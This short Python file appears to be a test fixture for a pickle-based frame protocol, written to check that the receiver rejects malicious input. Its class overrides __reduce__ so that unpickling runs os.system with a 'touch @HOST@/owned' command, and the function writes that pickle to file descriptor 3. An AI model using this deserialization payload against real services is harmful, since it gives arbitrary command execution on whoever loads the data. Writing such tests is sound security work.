# Writes a pickle where frames are expected, one that runs a command for whoever loads it.
# ends: reply-too-large, protocol
import os
import pickle


class Loaded:
    def __reduce__(self):
        return (os.system, ("touch @HOST@/owned",))


def affine(x):
    os.write(3, pickle.dumps(Loaded()))
    return x
